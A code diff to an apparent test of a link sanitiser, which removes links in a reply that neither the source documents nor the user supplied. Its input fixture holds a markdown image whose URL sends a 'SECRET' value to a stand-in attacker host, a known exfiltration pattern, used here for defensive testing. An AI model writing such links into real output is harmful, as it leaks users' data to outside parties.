@@ -19,7 +19,7 @@ const written =
   'Otters swim [1](https://evil.example/1) [1]. ![x](https://evil.example/2?d=SECRET) [map](https://zoo.example/map), ' +
   'https://user.example/a and https://evil.example/3.';
 const kept =
-  'Otters swim [1](link removed) [1]. ![x](link removed) [map](https://zoo.example/map), ' +
+  'Otters swim [1] (link removed) [1]. ![x] (link removed) [map](https://zoo.example/map), ' +
   'https://user.example/a and (link removed).';
 
 it('a reply that rests on documents carries no link that neither they nor the user brought', async () => {
